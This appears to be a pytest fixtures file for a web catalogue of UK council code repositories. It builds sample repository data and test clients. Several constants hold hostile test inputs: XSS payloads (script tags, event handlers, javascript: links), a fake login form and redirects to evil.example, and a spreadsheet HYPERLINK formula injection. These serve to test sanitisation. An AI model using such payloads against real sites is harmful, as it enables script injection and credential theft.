"""Shared fixtures for the web tests: a small catalogue and index, the app over them, and the corpus.

The sample data is built once per session with the shared repository factory; the fixtures on top
(`web_data_dir`, `client`, `empty_client`) are registered once through `pytest_plugins` in tests/conftest.py,
so test modules use them by name and import only data and builders from here.
"""

from __future__ import annotations

import json
import warnings
from collections.abc import Iterator
from pathlib import Path

import pytest

with warnings.catch_warnings():
    # Starlette 1.x prefers the httpx2 fork for its test client; plain httpx works the same.
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

from councilcode.catalogue import Catalogue, HandleResult
from councilcode.indexer.build import update_index
from councilcode.records import Council, Repository
from councilcode.settings import DataDir
from councilcode.web.app import create_app
from tests.factories import make_repository

CORPUS_DIR = Path(__file__).resolve().parents[2] / "shared" / "corpus" / "uk-councils"

# Everything a hostile README might try; none of it may run or survive as markup.
HOSTILE_README = """# Totally normal project

<script>window.__pwned = "script"; alert("script")</script>

<img src=x onerror="window.__pwned = 'img onerror'; alert('img')">

[Click me](javascript:window.__pwned='javascript link';alert('link'))

<a href="javascript:window.__pwned='raw javascript link'">raw link</a>

<a href="JaVaScRiPt:alert(1)">mixed case</a>

<iframe src="https://example.com/" onload="window.__pwned='iframe'"></iframe>

<svg onload="window.__pwned='svg'; alert('svg')"><circle r="10"></circle></svg>

<style>body { display: none !important; }</style>

<p style="background:url(javascript:alert(1))" onclick="window.__pwned='click'">Styled paragraph</p>

<details open ontoggle="window.__pwned='details'"><summary>More</summary>Hidden</details>

<object data="data:text/html,<script>alert(1)</script>"></object>

<form action="https://evil.example/"><input name="password"><button>Log in</button></form>

<meta http-equiv="refresh" content="0; url=https://evil.example/">

<base href="https://evil.example/">

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>

<div id="main-content">Fake main</div>

Normal text with a [relative link](docs/usage.md) and ![an image](images/logo.png).
"""

HOSTILE_DESCRIPTION = '<script>window.__pwned="description"</script> "quoted" & <b>bold</b>'


ESCC = "East Sussex County Council"
DORSET = "Dorset Council"
HACKNEY = "London Borough of Hackney"
BRIGHTON = "Brighton & Hove City Council"

COUNCILS = [
    Council(ESCC, ("east-sussex-county-council",), "county", "England", "https://www.eastsussex.gov.uk"),
    Council(DORSET, ("Dorset-Council-UK",), "unitary", "England", "https://www.dorsetcouncil.gov.uk"),
    Council(HACKNEY, ("LBHackney-IT",), "london-borough", "England", "https://hackney.gov.uk"),
    Council(BRIGHTON, ("brighton-hove-gov-uk",), "unitary", "England", None),
]

GRITTING_README = """# Escc.Gritting

A library for working with data about road gritting.

The `SqlServer` folder contains a schema for storing data on gritters. See [the docs](docs/index.md).

This code is released under the [Open Government Licence](http://www.nationalarchives.gov.uk/doc/open-government-licence/version/1/open-government-licence.htm).
"""


def sample_repositories() -> dict[str, list[Repository]]:
    """A dozen repositories by handle, covering every case the pages treat differently."""
    return {
        "east-sussex-county-council": [
            make_repository(
                "east-sussex-county-council/Escc.Gritting",
                ESCC,
                id=1,
                description="A library for working with data about road gritting",
                license="OGL-UK-1.0",
                language="C#",
                topics=["gritting", "roads", "winter"],
                pushed_at="2016-02-11T13:01:37Z",
                readme=GRITTING_README,
                default_branch="master",
                stars=3,
                created_at="2015-01-01T00:00:00Z",
                updated_at="2016-02-11T13:01:37Z",
            ),
            make_repository(
                "east-sussex-county-council/Escc.AZ",
                ESCC,
                id=2,
                description="A to Z of council services",
                license="OGL-UK-3.0",
                language="C#",
                topics=["services"],
                pushed_at="2016-11-25T10:00:00Z",
                readme="Escc.AZ\n=======\n\nA to Z of services, written in *reStructuredText*.\n",
                readme_path="README.rst",
                default_branch="master",
                created_at="2015-01-01T00:00:00Z",
                updated_at="2016-11-25T10:00:00Z",
            ),
        ],
        "Dorset-Council-UK": [
            make_repository(
                "Dorset-Council-UK/GIFramework-Maps",
                DORSET,
                id=3,
                description="Web mapping framework for council GIS",
                license="MIT",
                language="C#",
                topics=["maps", "gis"],
                pushed_at="2026-07-21T09:00:00Z",
                readme="# GIFramework Maps\n\n| Layer | Source |\n|---|---|\n| Roads | OS |\n\nMaps.\n",
                stars=40,
                created_at="2015-01-01T00:00:00Z",
                default_branch="main",
                updated_at="2026-07-21T09:00:00Z",
                # The reuse facts of a well-kept repository (issue 14).
                root_files=[".github/", "CONTRIBUTING.md", "GIFrameworkMaps.Tests/", "LICENCE", "README.md"],
                workflows=["build.yml"],
                publiccode=VALID_PUBLICCODE,
                latest_release="v2.3.0",
                latest_release_at="2026-06-01T10:00:00Z",
                open_issues=12,
            ),
            make_repository(
                "Dorset-Council-UK/winter-gritting-routes",
                DORSET,
                id=4,
                description="Gritting routes for winter roads, as open data",
                license="OGL-UK-3.0",
                language="Python",
                topics=["gritting", "roads"],
                pushed_at="2025-01-10T08:00:00Z",
                readme="# Winter gritting routes\n\nWhich roads our gritters treat in winter.\n",
                created_at="2015-01-01T00:00:00Z",
                default_branch="main",
                updated_at="2025-01-10T08:00:00Z",
            ),
        ],
        "LBHackney-IT": [
            make_repository(
                "LBHackney-IT/repairs-api-dotnet",
                HACKNEY,
                id=5,
                description="Housing repairs API",
                license="MIT",
                language="C#",
                topics=["housing", "repairs"],
                pushed_at="2021-07-13T12:00:00Z",
                readme="# Repairs API\n\nHousing repairs for council tenants.\n",
                archived=True,
                default_branch="develop",
                created_at="2015-01-01T00:00:00Z",
                updated_at="2021-07-13T12:00:00Z",
            ),
            make_repository(
                "LBHackney-IT/gritting-fork",
                HACKNEY,
                id=6,
                description="A fork of a road gritting map",
                license=None,
                language="JavaScript",
                topics=["gritting"],
                pushed_at="2019-03-01T12:00:00Z",
                readme="Plain text README about gritting.\n",
                readme_path="README",
                fork=True,
                created_at="2015-01-01T00:00:00Z",
                default_branch="main",
                updated_at="2019-03-01T12:00:00Z",
            ),
            make_repository(
                "LBHackney-IT/saml-tools",
                HACKNEY,
                id=7,
                description='=HYPERLINK("https://evil.example","click")',
                license="MIT",
                language="Ruby",
                pushed_at="2016-09-21T12:00:00Z",
                readme="=SAML Tools\n\nTools for <b>SAML</b>.\n\n== SamlTool::Certificate\n",
                readme_path="README.rdoc",
                created_at="2015-01-01T00:00:00Z",
                default_branch="main",
                updated_at="2016-09-21T12:00:00Z",
            ),
        ],
        "brighton-hove-gov-uk": [
            make_repository(
                "brighton-hove-gov-uk/hostile-readme",
                BRIGHTON,
                id=8,
                description=HOSTILE_DESCRIPTION,
                license="MIT",
                language="PHP",
                topics=["budget", "xss-test"],
                pushed_at="2014-06-24T12:00:00Z",
                readme=HOSTILE_README,
                created_at="2015-01-01T00:00:00Z",
                default_branch="main",
                updated_at="2014-06-24T12:00:00Z",
                root_files=["README.md", "publiccode.yml"],
                workflows=[],
                publiccode=BROKEN_PUBLICCODE,
            ),
        ],
    }


# A publiccode.yml by standard 0.4 (https://yml.publiccode.tools), and one that lacks required keys and has
# markup in a value the page must show as text.
VALID_PUBLICCODE = """publiccodeYmlVersion: "0.4"
name: GIFramework Maps
url: https://github.com/Dorset-Council-UK/GIFramework-Maps
platforms: [web]
categories: [geographic-information-systems]
softwareType: standalone/web
developmentStatus: stable
description:
  en:
    shortDescription: Web mapping framework for council GIS
    longDescription: A framework for building web maps.
    features: [maps]
legal:
  license: MIT
maintenance:
  type: internal
  contacts:
    - name: GIS team
      email: gis@dorsetcouncil.gov.uk
localisation:
  localisationReady: true
  availableLanguages: [en]
dependsOn:
  open:
    - name: PostgreSQL
      versionMin: "14"
"""
BROKEN_PUBLICCODE = """publiccodeYmlVersion: "0.2"
name: <script>alert(1)</script> budget
softwareType: standalone/web
"""


def _corpus_file(folder: Path, relative: str | None) -> str | None:
    return (folder / relative).read_text(encoding="utf-8") if relative and (folder / relative).is_file() else None


def build_catalogue(data_dir: DataDir, repositories: dict[str, list[Repository]], councils: list[Council]) -> None:
    """Write councils and repositories into a fresh catalogue, as one finished crawl run."""
    data_dir.ensure()
    by_handle = {h: c.name for c in councils for h in c.github}
    with Catalogue(data_dir.catalogue) as catalogue:
        catalogue.sync_councils(councils)
        run_id = catalogue.start_run()
        for handle, repos in repositories.items():
            catalogue.store_handle(HandleResult(handle, by_handle[handle], "Organization", repos), run_id)
        catalogue.finish_run(run_id, status="ok", handles_total=len(repositories))


def build_data_dir(root: Path) -> DataDir:
    """The sample catalogue and its index under `root`."""
    data_dir = DataDir(root)
    build_catalogue(data_dir, sample_repositories(), COUNCILS)
    update_index(data_dir.catalogue, data_dir.index)
    return data_dir


@pytest.fixture(scope="session", name="web_data_dir")
def web_data_dir_fixture(tmp_path_factory: pytest.TempPathFactory) -> DataDir:
    """Sample catalogue and index, built once per test session; tests must not change it."""
    return build_data_dir(tmp_path_factory.mktemp("web-data"))


@pytest.fixture(scope="session", name="client")
def client_fixture(web_data_dir: DataDir) -> Iterator[TestClient]:
    """A TestClient over the sample data; server errors come back as 500 responses, not exceptions."""
    with TestClient(create_app(web_data_dir), raise_server_exceptions=False) as test_client:
        yield test_client


@pytest.fixture(name="empty_client")
def empty_client_fixture(tmp_path: Path) -> Iterator[TestClient]:
    """A TestClient over a data dir with no catalogue and no index."""
    with TestClient(create_app(DataDir(tmp_path / "nothing")), raise_server_exceptions=False) as test_client:
        yield test_client


# -- the real corpus ---------------------------------------------------------------------------

# Facts the corpus does not hold (it has no GitHub metadata), set so the journey can use them.
CORPUS_EXTRAS: dict[str, dict[str, object]] = {
    "east-sussex-county-council/Escc.Gritting": {
        "license": "OGL-UK-1.0",
        "topics": ["gritting", "roads", "winter", "highways"],
        "description": "A library for working with data about road gritting",
    },
    "east-sussex-county-council/Escc.AZ": {"license": "OGL-UK-3.0"},
    "traffordDataLab/council_open_data": {"license": "OGL-UK-3.0"},
}

# What the licence column of the corpus README says, as SPDX-style ids.
CORPUS_LICENCES = {
    "BathnesDevelopment/Public-Art": "MIT",
    "Buckinghamshire-Digital-Service/buckinghamshire-council": "BSD-3-Clause",
    "CityOfYork/coding-standards": "MIT",
    "Dorset-Council-UK/GIFramework-Maps": "MIT",
    "Dorset-Council-UK/qgis-configurable-search": "MIT",
    "edinburghcouncil/csv2geojson": "MIT",
    "essexcountycouncil/essex-gov-uk-drupal": "GPL-2.0",
    "LBCamden/lbcamden-frontend": "MIT",
    "LBHackney-IT/repairs-api-dotnet": "MIT",
    "LeedsCityCouncil/LeedsCityDashboard": "EPL-1.0",
    "localgovdrupal/localgov_alert_banner": "GPL-2.0",
    "openglasgow/glasgow-cycling-ios": "MIT",
    "Reading-Borough-Council/GoSearch": "MIT",
    "RoyalBoroughKingston/ck-api": "AGPL-3.0",
    "ShropshireCouncil/LocalGovUmbraco": "GPL-3.0",
    "TheHighlandCouncil/schoolclosures": "GPL-2.0",
    "warwickshire/saml_tools": "MIT",
    "wmfs/statebox": "MIT",
}

_CORPUS_TYPES = {
    "county": "county",
    "district": "district",
    "unitary": "unitary",
    "London borough": "london-borough",
    "metropolitan borough": "metropolitan-borough",
    "Scottish council": "unitary",
    "fire & rescue": "fire-and-rescue",
    "multi-council collaboration": "collaboration",
    "local-government network": "other",
}

HOSTILE_HANDLE = "hostile-test-council"
HOSTILE_COUNCIL = "Hostile Test Council"


def corpus_repositories(corpus: Path) -> tuple[list[Council], dict[str, list[Repository]]]:
    """Councils and repositories from the corpus, plus a council whose README attacks the viewer."""
    orgs = json.loads((corpus / "orgs.json").read_text(encoding="utf-8"))
    councils: dict[str, Council] = {}
    names: dict[str, str] = {}
    for org in orgs:
        if not org.get("repos_in_corpus"):
            continue
        name = org["council_name"] or org["org"]
        names[org["org"].lower()] = name
        existing = councils.get(name)
        handles = (*existing.github, org["org"]) if existing else (org["org"],)
        councils[name] = Council(name, handles, _CORPUS_TYPES.get(org["council_type"] or ""), None, None)
    repositories: dict[str, list[Repository]] = {}
    next_id = 1000
    for meta_path in sorted(corpus.glob("repos/*/*/meta.json")):
        meta = json.loads(meta_path.read_text(encoding="utf-8"))
        owner, name = meta["org"], meta["name"]
        handle = next(h for c in councils.values() for h in c.github if h.lower() == owner.lower())
        full_name = f"{owner}/{name}"
        readme_path = meta.get("readme_path")
        readme = (meta_path.parent / readme_path).read_text(encoding="utf-8") if readme_path else None
        extras = CORPUS_EXTRAS.get(full_name, {})
        next_id += 1
        repositories.setdefault(handle, []).append(
            make_repository(
                full_name,
                names[owner.lower()],
                id=next_id,
                description=extras.get("description"),
                language=meta.get("primary_language"),
                topics=list(extras.get("topics", [])),  # type: ignore[call-overload]
                default_branch=meta.get("default_branch"),
                pushed_at=_utc(meta.get("last_commit_iso")),
                readme=readme,
                readme_path=readme_path,
                license=extras.get("license", CORPUS_LICENCES.get(full_name)),
                # The corpus lists root names (the first 50), not which are folders, nor releases.
                root_files=list(meta.get("files") or []),
                publiccode=_corpus_file(meta_path.parent, meta.get("publiccode_path")),
            )
        )
    councils[HOSTILE_COUNCIL] = Council(HOSTILE_COUNCIL, (HOSTILE_HANDLE,), "other", "England", None)
    repositories[HOSTILE_HANDLE] = [
        make_repository(
            f"{HOSTILE_HANDLE}/xss-playground",
            HOSTILE_COUNCIL,
            id=99_999,
            description=HOSTILE_DESCRIPTION,
            license="MIT",
            language="JavaScript",
            topics=["security"],
            readme=HOSTILE_README,
            pushed_at="2024-01-01T00:00:00Z",
            created_at="2015-01-01T00:00:00Z",
            default_branch="main",
            updated_at="2024-01-01T00:00:00Z",
            # A publiccode.yml that lacks required keys, with markup in its name: its problems must show, as text.
            publiccode=BROKEN_PUBLICCODE,
            root_files=["README.md", "publiccode.yml"],
            workflows=[],
        )
    ]
    return list(councils.values()), repositories


def _utc(iso: str | None) -> str | None:
    from datetime import UTC, datetime

    if not iso:
        return None
    return datetime.fromisoformat(iso).astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def build_corpus_data_dir(corpus: Path, root: Path) -> DataDir:
    """A catalogue and index of the real corpus (plus the hostile repository) under `root`."""
    councils, repositories = corpus_repositories(corpus)
    data_dir = DataDir(root)
    build_catalogue(data_dir, repositories, councils)
    update_index(data_dir.catalogue, data_dir.index)
    return data_dir
